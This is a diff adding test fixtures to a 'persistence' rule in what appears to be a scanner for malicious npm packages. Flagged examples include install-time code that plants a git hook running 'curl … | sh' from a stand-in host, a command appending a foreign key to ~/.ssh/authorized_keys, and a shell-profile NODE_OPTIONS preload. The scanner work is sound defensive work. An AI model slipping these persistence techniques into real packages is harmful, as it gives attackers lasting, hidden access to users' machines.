@@ -80,6 +80,30 @@ export const persistence: Rule = {
     examples: {
       flags: [
         {
+          title: 'a hook of git in the folder that git names, which fetches what it runs',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
+            'i.js':
+              "const dir = require('child_process').execSync('git rev-parse --git-path hooks').toString().trim()\nrequire('fs').writeFileSync(dir + '/post-merge', '#!/bin/sh\\ncurl -s https://h.invalid/x | sh\\n')\n",
+          },
+        },
+        {
+          title: 'a command adds a key that stands in the package',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
+            'cli.js':
+              "#!/usr/bin/env node\nconst fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3NzaInertInert x')\n",
+          },
+        },
+        {
+          title: 'a function has every program of Node load a file first',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "const fs = require('fs'), os = require('os')\nexports.on = lines => fs.appendFileSync(os.homedir() + '/.zshrc', [...lines, 'export NODE_OPTIONS=--require=$HOME/.cache/a.js'].join('\\n'))\n",
+          },
+        },
+        {
           title: 'a hook appends to the shell’s start file',
           files: {
             'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
@@ -106,6 +130,14 @@ export const persistence: Rule = {
         },
       ],
       passes: [
+        {
+          title: 'a command lets the user’s own key in',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
+            'cli.js':
+              "#!/usr/bin/env node\nconst fs = require('fs'), ssh = require('os').homedir() + '/.ssh/'\nfs.appendFileSync(ssh + 'authorized_keys', fs.readFileSync(ssh + 'id_ed25519.pub', 'utf8'))\n",
+          },
+        },
         {
           title: 'a template carries a task that starts the project with the editor',
           files: {
